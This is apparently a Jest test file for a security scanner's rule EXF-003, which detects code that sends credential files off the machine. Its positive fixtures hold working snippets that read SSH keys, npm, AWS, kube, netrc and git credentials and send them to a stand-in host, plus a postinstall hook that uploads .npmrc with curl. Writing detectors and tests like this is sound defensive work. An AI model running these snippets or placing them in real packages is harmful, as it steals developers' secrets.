import { describe, expect, it } from '@jest/globals';
import { hitsOf, js, manifest } from '../testing/hits-of.ts';

describe('EXF-003 a credential file leaves the machine', () => {
  it.each([
    [
      'read at once',
      `const fs = require('fs'), os = require('os'), path = require('path');
       fetch('https://x.example.invalid', { method: 'POST', body: fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8') });`,
    ],
    [
      'read by callback',
      `const fs = require('fs'); fs.readFile(process.env.HOME + '/.ssh/id_rsa', 'utf8', (err, data) => {
         const r = require('https').request('https://x.example.invalid'); r.end(Buffer.from(data).toString('base64')); });`,
    ],
    [
      'read from a list',
      `import { readFile } from 'node:fs/promises'; import { homedir } from 'node:os';
       for (const f of ['.aws/credentials', '.kube/config']) { const text = await readFile(\`\${homedir()}/\${f}\`); await fetch('https://x.example.invalid', { body: text }); }`,
    ],
    [
      'as a stream',
      `const fs = require('fs'); fs.createReadStream('/root/.netrc').pipe(require('https').request({ host: 'x.example.invalid' }));`,
    ],
    [
      'by promise',
      `require('fs').promises.readFile(home + '/.git-credentials').then((t) => fetch('https://x.example.invalid', { body: t }));`,
    ],
  ])('finds it %s', (_name, source) => {
    expect(hitsOf('EXF-003', js(source))).toEqual(['critical index.js']);
  });

  it('finds it in an install script', () => {
    const scripts = { postinstall: 'curl -F f=@$HOME/.npmrc https://x.example.invalid' };
    expect(hitsOf('EXF-003', manifest({ scripts }))).toEqual(['critical package.json']);
  });

  it.each([
    [
      'a file that is read and used',
      `const t = require('fs').readFileSync('.npmrc', 'utf8'); console.log(t.length); fetch('https://x.example.invalid');`,
    ],
    [
      'another file that is sent',
      `const t = require('fs').readFileSync('data.json'); fetch('https://x.example.invalid', { body: t });`,
    ],
    ['a name that is sent', `fetch('https://x.example.invalid', { body: '.npmrc' });`],
  ])('passes %s', (_name, source) => {
    expect(hitsOf('EXF-003', js(source))).toEqual([]);
  });
});
